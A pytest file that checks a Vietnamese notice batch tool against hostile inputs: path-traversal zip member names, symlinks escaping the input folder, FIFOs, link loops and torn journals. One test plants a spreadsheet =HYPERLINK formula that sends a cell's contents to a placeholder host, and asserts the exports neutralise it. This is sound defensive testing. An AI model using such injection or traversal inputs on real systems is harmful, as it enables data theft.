"""A batch always finishes: no name, link, special file, archive or torn journal can crash it,
hang it, make it read outside its inputs or lose an input without a row saying why."""
from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from vnnotice import Notice
from vnnotice.batch import run_batch
from vnnotice.batch.inputs import glob_paths, iter_items
from vnnotice.batch.state import Journal
from vnnotice.service.tasks import COLUMNS

sys.path.insert(0, str(Path(__file__).resolve().parent))

from test_batch import REPO, jsonl, notice_text, write_docs  # noqa: E402
from slow import SLOW  # noqa: E402

SECRET = "MẬT: dòng này nằm ngoài thư mục đầu vào"


def rows(out: Path) -> tuple[list[Notice], dict[str, str]]:
    """The records and the error rows (source → reason) of ``notices.jsonl``."""
    done, errors = [], {}
    for row in jsonl(out / "notices.jsonl"):
        if "error" in row:
            errors[row["source"]] = row["error"]
        else:
            done.append(Notice.model_validate(row))
    return done, errors


def test_a_legacy_encoded_file_name_is_read_and_named_with_escapes(tmp_path):
    folder = tmp_path / "in"
    write_docs(folder, 1)
    raw = os.path.join(os.fsencode(folder), b"Th\xf4ng b\xe1o.txt")
    with open(raw, "wb") as handle:
        handle.write(notice_text(5).encode("utf-8"))
    out = tmp_path / "out"
    summary = run_batch([str(folder)], out)
    assert (summary.done, summary.failed) == (2, 0)
    done, _ = rows(out)
    assert f"{folder}/Th\\xf4ng b\\xe1o.txt" in [n.source for n in done]
    again = run_batch([str(folder)], out)  # the key is stable: nothing done twice
    assert (again.done, again.skipped) == (0, 2)


def _zip_with_bad_utf8_name(path: Path, good: bytes) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("ab.txt", good)
    data = bytearray(path.read_bytes().replace(b"ab.txt", b"\xff\xfe.txt"))
    for header, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # flag the name as UTF-8
        at = data.index(header) + flags
        data[at + 1] |= 0x08
    path.write_bytes(bytes(data))


def test_zip_hazards_give_a_row_each(tmp_path):
    folder = tmp_path / "in"
    write_docs(folder, 1)
    _zip_with_bad_utf8_name(folder / "ten-hong.zip", notice_text(1).encode())
    inner = tmp_path / "inner.zip"
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("x.txt", notice_text(2))
    with zipfile.ZipFile(folder / "luu.zip", "w") as archive:
        archive.writestr("a/tb.txt", notice_text(3))
        with pytest.warns(UserWarning, match="Duplicate name"):
            archive.writestr("a/tb.txt", notice_text(4))
        archive.write(inner, "a/long.zip")
        archive.writestr("../../ngoai.txt", notice_text(6))  # a member named out of the archive: only a name
    out = tmp_path / "out"
    summary = run_batch([str(folder)], out)
    done, errors = rows(out)
    assert summary.done == len(done) == 3  # doc-000.txt, the first a/tb.txt, ../../ngoai.txt
    luu = folder / "luu.zip"
    assert "does not decode" in errors[str(folder / "ten-hong.zip")]
    assert "nested zip" in errors[f"{luu}!a/long.zip"]
    repeated = [reason for source, reason in errors.items() if source.startswith(f"{luu}!a/tb.txt (repeated")]
    assert len(repeated) == 1 and "same name" in repeated[0]
    first = next(n for n in done if n.source == f"{luu}!a/tb.txt")
    assert "Số: 103/TB-UBND" in first.text  # the first of the two members
    assert summary.exit_code == 1


def test_links_and_special_files_are_refused_with_a_row(tmp_path):
    outside = tmp_path / "ngoai"
    outside.mkdir()
    (outside / "mat.txt").write_text(SECRET + "\n1. Sở Y tế báo cáo.\n", encoding="utf-8")
    folder = tmp_path / "in"
    write_docs(folder, 2)
    (folder / "ra-ngoai.txt").symlink_to(outside / "mat.txt")
    (folder / "trong.txt").symlink_to(folder / "doc-000.txt")  # a link inside the folder is read
    (folder / "so-khong.txt").symlink_to("/dev/zero")
    os.mkfifo(folder / "ong.txt")
    (folder / "vong").mkdir()
    (folder / "vong" / "lai").symlink_to(folder)  # a loop
    (folder / "thu-muc-ngoai").symlink_to(outside)
    out = tmp_path / "out"
    summary = run_batch([str(folder)], out)
    done, errors = rows(out)
    assert sorted(Path(n.source).name for n in done) == ["doc-000.txt", "doc-001.txt", "trong.txt"]
    assert "out of the input folder" in errors[str(folder / "ra-ngoai.txt")]
    assert "out of the input folder" in errors[str(folder / "so-khong.txt")]
    assert "FIFO" in errors[str(folder / "ong.txt")]
    assert "link to a folder" in errors[str(folder / "vong" / "lai")]
    assert "link to a folder" in errors[str(folder / "thu-muc-ngoai")]
    assert summary.failed == len(errors) == 5
    assert SECRET not in (out / "notices.jsonl").read_text(encoding="utf-8")


def test_a_glob_never_goes_through_a_link_loop(tmp_path):
    folder = tmp_path / "in"
    docs = write_docs(folder / "a", 2)
    (folder / "a" / "lai").symlink_to(folder)
    (folder / "a" / "lai2").symlink_to(folder / "a")
    assert glob_paths(str(folder / "**" / "*.txt")) == [str(p) for p in docs]
    assert [i.name for i in iter_items([str(folder / "**" / "*.txt")])] == [str(p) for p in docs]
    assert glob_paths(str(folder / "a" / "doc-00?.txt")) == [str(p) for p in docs]


_LIST_ITEMS = """
import json, os, sys
from vnnotice.batch.inputs import iter_items
if os.geteuid() == 0:  # permissions do not stop root: look as nobody (everything imported before)
    os.setgid(65534)
    os.setuid(65534)
print(json.dumps([[i.name, i.error] for i in iter_items([sys.argv[1]])]))
"""


@pytest.mark.skipif(not hasattr(os, "geteuid"), reason="POSIX permissions")
def test_an_unreadable_subfolder_gives_a_row():
    import shutil
    import tempfile

    top = Path(tempfile.mkdtemp(prefix="vnnotice-perm-", dir="/tmp"))
    try:
        top.chmod(0o755)
        folder = top / "in"
        write_docs(folder, 1)
        locked = folder / "khoa"
        write_docs(locked, 1)
        for path in (folder, folder / "doc-000.txt"):
            path.chmod(0o755 if path.is_dir() else 0o644)
        locked.chmod(0)
        out = subprocess.run([sys.executable, "-c", _LIST_ITEMS, str(folder)], capture_output=True, text=True,
                             cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)}, timeout=60)
        assert out.returncode == 0, out.stderr
        items = json.loads(out.stdout)
        assert [name for name, _ in items] == [str(folder / "doc-000.txt"), str(locked)]
        assert items[1][1].startswith("unreadable folder: PermissionError")
    finally:
        (top / "in" / "khoa").chmod(0o755)
        shutil.rmtree(top)


def test_a_journal_line_torn_inside_the_notice_is_done_again(tmp_path):
    folder = tmp_path / "in"
    docs = write_docs(folder, 3)
    out = tmp_path / "out"
    run_batch([str(folder)], out)
    journal = out / "journal.jsonl"
    lines = journal.read_bytes().splitlines(keepends=True)
    lines[1] = lines[1][: len(lines[1]) // 2] + b"\n"  # cut inside the notice part, newline kept
    journal.write_bytes(b"".join(lines) + b'{"meta":{"key":1}}\n{"meta":\n')
    again = run_batch([str(folder)], out)
    assert (again.done, again.skipped, again.exit_code) == (1, 2, 0)
    assert [n.source for n in rows(out)[0]] == [str(p) for p in docs]


def test_scratch_files_of_a_killed_run_are_removed(tmp_path):
    folder = tmp_path / "in"
    write_docs(folder, 1)
    out = tmp_path / "out"
    (out / ".duckdb-abc123" / "parquet").mkdir(parents=True)
    (out / ".notices.jsonl.tmp").write_text("half", encoding="utf-8")
    (out / ".tasks.csv.tmp").write_text("half", encoding="utf-8")
    run_batch([str(folder)], out)
    assert sorted(p.name for p in out.iterdir()) == ["journal.jsonl", "journal.lock", "notices.jsonl"]


def test_the_lock_of_a_dead_batch_is_stale(tmp_path):
    from vnnotice.batch.state import JournalBusy

    (tmp_path / "journal.lock").write_text("999999999\n", encoding="utf-8")
    orphan = subprocess.Popen([sys.executable, "-c", "import fcntl, sys, time; f = open(sys.argv[1], 'a'); "
                               "fcntl.flock(f, fcntl.LOCK_EX); print('held', flush=True); time.sleep(60)",
                               str(tmp_path / "journal.lock")], stdout=subprocess.PIPE)
    try:
        assert orphan.stdout.readline() == b"held\n"  # held by a process, named as a dead one
        with Journal(tmp_path) as journal:
            journal.append({"key": "k", "name": "a.txt", "status": "error", "reason": "x"}, None)
            with pytest.raises(JournalBusy, match=f"process {os.getpid()}"):
                Journal(tmp_path)
    finally:
        orphan.kill()
        orphan.wait()


def _children_of(pid: int) -> list[int]:
    """Live processes started for the batch ``pid`` (workers carry their parent's pid)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            environ = (entry / "environ").read_bytes().split(b"\0")
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if f"VNNOTICE_WORKER_PARENT={pid}".encode() in environ and state != "Z":
            found.append(int(entry.name))
    return found


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_sigkill_of_a_two_worker_batch_leaves_no_orphan_and_resumes(tmp_path):
    docs = write_docs(tmp_path / "in", 30, items=40)
    out = tmp_path / "out"
    journal = out / "journal.jsonl"
    command = [sys.executable, "-m", "vnnotice", "batch", str(tmp_path / "in"), "--out", str(out),
               "--workers", "2", "--quiet"]
    proc = subprocess.Popen(command, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and proc.poll() is None:
        if journal.exists() and journal.read_bytes().count(b"\n") >= 2 and len(_children_of(proc.pid)) == 2:
            break
        time.sleep(0.01)
    assert len(_children_of(proc.pid)) == 2
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    deadline = time.monotonic() + 10
    while _children_of(proc.pid) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _children_of(proc.pid) == []
    rerun = subprocess.run(command, cwd=REPO, capture_output=True, text=True, timeout=300)
    assert rerun.returncode == 0, rerun.stderr
    assert [row["source"] for row in jsonl(out / "notices.jsonl")] == [str(p) for p in docs]


def test_task_tables_of_a_batch_hold_no_live_formula(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    folder = tmp_path / "in"
    folder.mkdir()
    text = ("THÔNG BÁO\nKết luận của Giám đốc Sở\n"
            '1. =HYPERLINK("http://x.invalid/?"&A1,"Bấm vào") Sở Y tế báo cáo.\n'
            "2. +SUM(1,2) Sở Tài chính thực hiện.\n3. @cmd Sở Nội vụ thực hiện.\n")
    (folder / "cong-thuc.txt").write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    run_batch([str(folder)], out, tasks=("csv", "xlsx"))
    with open(out / "tasks.csv", encoding="utf-8-sig", newline="") as handle:
        texts = [row[COLUMNS["text"]] for row in csv.DictReader(handle)]
    assert texts and all(not t.startswith(("=", "+", "@")) for t in texts)
    assert any(t.startswith("'=HYPERLINK") for t in texts)
    book = openpyxl.load_workbook(out / "tasks.xlsx")
    cells = [c for row in book["tasks"].iter_rows(min_row=2) for c in row]
    assert any(str(c.value).startswith("=HYPERLINK") for c in cells)  # shown as written …
    assert all(c.data_type != "f" for c in cells)  # … never a formula


def test_error_rows_are_valid_json_for_hostile_names(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    raw = os.path.join(os.fsencode(folder), b"r\xf4ng\xff.txt")
    open(raw, "wb").close()
    out = tmp_path / "out"
    run_batch([str(folder)], out, formats=("jsonl",))
    (row,) = [json.loads(line) for line in (out / "notices.jsonl").read_text(encoding="utf-8").splitlines()]
    assert row == {"source": f"{folder}/r\\xf4ng\\xff.txt", "error": "empty file"}


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_a_batch_over_every_hostile_file_and_fifty_good_ones(tmp_path):
    pytest.importorskip("docx")
    pytest.importorskip("pypdf")
    from hostile import hostile_folder

    folder, out = tmp_path / "in", tmp_path / "out"
    records, errors = hostile_folder(folder, tmp_path / "ngoai")
    summary = run_batch([str(folder)], out, workers=2, tasks=("csv",))
    done, failed = rows(out)
    assert (len(done), len(failed)) == (records, errors) == (50, 11)
    assert (summary.done, summary.failed) == (50, 11)
    assert "MẬT NGOÀI" not in (out / "notices.jsonl").read_text(encoding="utf-8")
    assert all(reason and not reason.startswith("engine") for reason in failed.values())


def test_an_output_folder_that_fails_is_exit_code_3(tmp_path):
    from typer.testing import CliRunner

    from vnnotice.cli import app

    write_docs(tmp_path / "in", 1)
    out = tmp_path / "out"
    out.mkdir()
    (out / "notices.jsonl").mkdir()  # the output cannot be moved into place
    result = CliRunner().invoke(app, ["batch", str(tmp_path / "in"), "--out", str(out), "--quiet"])
    assert result.exit_code == 3 and "rerun the same command" in result.output


def test_a_document_past_its_budget_is_stopped_with_a_row_and_the_rest_is_done(tmp_path):
    folder = tmp_path / "in"
    docs = write_docs(folder, 2)
    slow = folder / "dai.txt"  # seconds of work (see slow.py)
    slow.write_text(SLOW, encoding="utf-8")
    out = tmp_path / "out"
    summary = run_batch([str(folder)], out, timeout=0.5)
    done, errors = rows(out)
    assert sorted(n.source for n in done) == sorted(map(str, docs))
    assert errors == {str(slow): "stopped: not done within the time budget of 0.5 s"}
    assert summary.exit_code == 1
    again = run_batch([str(folder)], tmp_path / "out2", timeout=120, memory_mb=40)
    done, errors = rows(tmp_path / "out2")
    assert len(done) == 2 and "memory" in errors[str(slow)] and again.failed == 1
